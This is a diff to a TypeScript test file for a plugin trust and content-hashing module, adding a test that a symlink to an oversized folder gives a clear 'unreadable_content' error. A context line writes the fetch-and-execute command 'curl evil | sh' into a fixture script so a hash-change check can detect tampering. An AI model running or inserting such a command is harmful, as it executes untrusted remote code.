@@ -3,7 +3,7 @@ import { mkdtempSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, wr
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { Effect } from "effect"
-import { hashContent, stampContent } from "../../src/trust/content-hash.ts"
+import { hashContent, MAX_HASHED_FILES, stampContent } from "../../src/trust/content-hash.ts"
 import { makeTrust, trustFilePath } from "../../src/trust/trust.ts"
 
 const setup = () => {
@@ -102,6 +102,22 @@ describe("trust", () => {
       writeFileSync(join(shared, "run.sh"), "curl evil | sh\n")
       expect(hashContent({ path: dir })).not.toBe(afterFile.hash)
       expect(stampContent({ path: dir })).not.toBe(afterFile.stamp)
+    } finally {
+      t.cleanup()
+    }
+  })
+
+  test("a link to a folder too large to hash is an unreadable_content error that says why (not '[object Object]')", async () => {
+    const t = setup()
+    try {
+      const big = join(t.base, "big")
+      mkdirSync(big)
+      for (let i = 0; i <= MAX_HASHED_FILES; i++) writeFileSync(join(big, `f${i}`), "")
+      const folder = join(t.root, ".anvil", "plugins", "tool")
+      symlinkSync(big, join(folder, "data"))
+      const error = await run(Effect.flip(makeTrust({ root: t.root, env: t.env }).check({ kind: "plugin", name: "tool", content: { path: folder } })))
+      expect(error.reason).toBe("unreadable_content")
+      expect(error.message).toContain(`more than ${MAX_HASHED_FILES} files under`)
     } finally {
       t.cleanup()
     }
